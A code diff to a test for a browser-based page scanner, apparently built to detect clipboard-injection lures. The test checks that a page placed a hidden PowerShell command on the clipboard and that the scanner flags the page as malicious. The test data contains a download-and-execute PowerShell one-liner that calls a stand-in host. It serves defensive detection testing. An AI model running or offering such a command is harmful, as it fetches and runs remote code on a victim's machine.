@@ -130,7 +130,9 @@ describe('browser engine: interaction and linked page (real Chromium)', function
     // On 127.0.0.1, a secure context: navigator.clipboard does not exist on a plain-http name.
     const { input, result } = await scan(`${base}/cf`);
     assert.deepEqual(input.clipboardWrites, ['powershell -w hidden -ep bypass -c "iwr https://x.example/s.ps1 | iex"'], JSON.stringify({ interaction: result.capture?.interaction, requests: result.capture?.requests.map((r) => [r.url, r.phase, r.status]) }));
-    assert.ok(result.signals.some((s) => s.id === 'clipboard-shell-command'), JSON.stringify(result.signals.map((s) => s.id)));
+    // The command arrives from the server (a fetched text, read with the page's sources) and lands on the clipboard.
+    assert.ok(result.signals.some((s) => s.id === 'clipboard-shell-command' || s.id === 'clipboard-shell-copied'), JSON.stringify(result.signals.map((s) => s.id)));
+    assert.equal(result.verdict, 'malicious', JSON.stringify(result.signals.map((s) => s.id)));
     assert.match(input.fetchedTexts?.find((t) => t.url.endsWith('/cf/cmd'))?.text ?? '', /powershell/);
   });
 
